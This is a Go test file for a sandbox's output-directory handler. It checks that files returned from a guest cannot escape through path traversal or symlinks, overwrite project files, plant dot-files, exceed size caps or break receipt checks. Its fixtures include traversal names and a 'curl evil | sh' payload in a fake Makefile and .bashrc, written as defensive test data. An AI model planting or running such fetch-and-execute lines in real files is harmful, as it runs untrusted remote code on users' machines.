package outdir

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"pybox/shared/wire"
)

func digest(name string, b []byte) wire.FileDigest {
	s := sha256.Sum256(b)
	return wire.FileDigest{Name: name, Bytes: int64(len(b)), SHA256: hex.EncodeToString(s[:])}
}

// deliver sends each file as the guest would, in chunks of n bytes, and
// finishes with a receipt that lists them all (tampered.txt with a wrong
// digest).
func deliver(d *Dir, n int, files map[string]string) ([]Saved, []string) {
	var names []string
	for name := range files {
		names = append(names, name)
	}
	slices.Sort(names)
	var listed []wire.FileDigest
	for _, name := range names {
		b := []byte(files[name])
		for off := 0; off == 0 || off < len(b); off += n {
			d.Chunk(&wire.OutputChunk{Name: name, Offset: int64(off), Data: b[off:min(off+n, len(b))]})
		}
		fd := digest(name, b)
		if name == "tampered.txt" {
			fd.SHA256 = strings.Repeat("0", 64)
		}
		listed = append(listed, fd)
	}
	return d.Finish(listed)
}

func names(t *testing.T, dir string) []string {
	t.Helper()
	ents, _ := os.ReadDir(dir)
	var out []string
	for _, e := range ents {
		out = append(out, e.Name())
	}
	return out
}

func TestWritesStayInside(t *testing.T) {
	parent := t.TempDir()
	out := filepath.Join(parent, "out")
	saved, notes := deliver(New(out, "r1", Options{}), 3, map[string]string{
		"ok.txt": "fine, in three-byte chunks", "../escape.txt": "x", "/etc/passwd": "x", "..": "x",
		"tampered.txt": "not what the receipt says", "a\nb": "x", "empty": "",
	})
	if got := names(t, filepath.Join(out, "r1")); !slices.Equal(got, []string{"empty", "ok.txt"}) {
		t.Errorf("the run's directory holds %q", got)
	}
	if b, _ := os.ReadFile(filepath.Join(out, "r1", "ok.txt")); string(b) != "fine, in three-byte chunks" {
		t.Errorf("ok.txt is %q", b)
	}
	if len(saved) != 2 || saved[1].Path != filepath.Join(out, "r1", "ok.txt") || saved[1].Bytes != 26 {
		t.Errorf("saved %+v", saved)
	}
	if len(notes) != 5 {
		t.Errorf("notes %q, want 5 files not written", notes)
	}
	if _, err := os.Lstat(filepath.Join(parent, "escape.txt")); err == nil {
		t.Error("escape.txt was written outside")
	}
	// A run's directory that exists already (a link planted there, or
	// the same run again) is never written into.
	os.Symlink(parent, filepath.Join(out, "r2"))
	_, notes = deliver(New(out, "r2", Options{}), 100, map[string]string{"ok.txt": "again"})
	if _, err := os.Lstat(filepath.Join(parent, "ok.txt")); err == nil || len(notes) != 1 || !strings.Contains(notes[0], "run's directory") {
		t.Errorf("wrote through an existing run directory: %q", notes)
	}
}

// In a project folder: a Makefile, .bashrc and json.py from the program
// overwrite and shadow nothing; the dot-file only when asked for.
func TestNeverOverwrites(t *testing.T) {
	project := t.TempDir()
	os.WriteFile(filepath.Join(project, "Makefile"), []byte("all:\n\ttrue\n"), 0o644)
	files := map[string]string{"Makefile": "all:\n\tcurl evil | sh\n", ".bashrc": "curl evil | sh\n", "json.py": "import os\n"}
	_, notes := deliver(New(project, "run1", Options{}), 1<<10, files)
	if b, _ := os.ReadFile(filepath.Join(project, "Makefile")); string(b) != "all:\n\ttrue\n" {
		t.Errorf("the project's Makefile became %q", b)
	}
	if got := names(t, project); !slices.Equal(got, []string{"Makefile", "run1"}) {
		t.Errorf("the project holds %q", got)
	}
	if got := names(t, filepath.Join(project, "run1")); !slices.Equal(got, []string{"Makefile", "json.py"}) {
		t.Errorf("the run's directory holds %q", got)
	}
	if len(notes) != 1 || !strings.Contains(notes[0], ".bashrc: its name starts with a dot") {
		t.Errorf("notes %q", notes)
	}
	deliver(New(project, "run2", Options{Dotfiles: true}), 1<<10, files)
	if _, err := os.Stat(filepath.Join(project, "run2", ".bashrc")); err != nil {
		t.Errorf("with dot-files allowed .bashrc was not written: %v", err)
	}
}

// The bound on one run, parts out of order, and a file the receipt does
// not list: none is kept.
func TestBoundsAndOrder(t *testing.T) {
	parent := t.TempDir()
	d := New(parent, "r", Options{MaxBytes: 10})
	d.Chunk(&wire.OutputChunk{Name: "big", Data: []byte("0123456789AB")})
	d.Chunk(&wire.OutputChunk{Name: "gap", Offset: 5, Data: []byte("x")})
	d.Chunk(&wire.OutputChunk{Name: "extra", Data: []byte("e")})
	d.Chunk(&wire.OutputChunk{Name: "fine", Data: []byte("ok")})
	saved, notes := d.Finish([]wire.FileDigest{digest("big", []byte("0123456789AB")), digest("gap", []byte("x")), digest("fine", []byte("ok")), digest("lost", []byte("l"))})
	if len(saved) != 1 || saved[0].Name != "fine" {
		t.Errorf("saved %+v", saved)
	}
	joined := strings.Join(notes, "\n")
	for _, w := range []string{"big: over the 10 bytes", "gap: a part came at byte 5", "extra: the receipt does not list it", "lost: the receipt lists it, but it never came"} {
		if !strings.Contains(joined, w) {
			t.Errorf("notes %q lack %q", notes, w)
		}
	}
	if got := names(t, filepath.Join(parent, "r")); !slices.Equal(got, []string{"fine"}) {
		t.Errorf("the run's directory holds %q", got)
	}
}

// A guest that sends more files than a run delivers gets the first
// wire.MaxDeliveredFiles written, and a note for the rest.
func TestFileCap(t *testing.T) {
	parent := t.TempDir()
	d := New(parent, "r", Options{})
	var listed []wire.FileDigest
	for i := range wire.MaxDeliveredFiles + 3 {
		name := fmt.Sprintf("f%05d", i)
		d.Chunk(&wire.OutputChunk{Name: name, Data: []byte("x")})
		listed = append(listed, digest(name, []byte("x")))
	}
	saved, notes := d.Finish(listed)
	if len(saved) != wire.MaxDeliveredFiles || len(names(t, filepath.Join(parent, "r"))) != wire.MaxDeliveredFiles {
		t.Errorf("saved %d files", len(saved))
	}
	if joined := strings.Join(notes, "\n"); !strings.Contains(joined, "not written: 3 parts of files past the first 1024") {
		t.Errorf("notes %q", notes)
	}
}
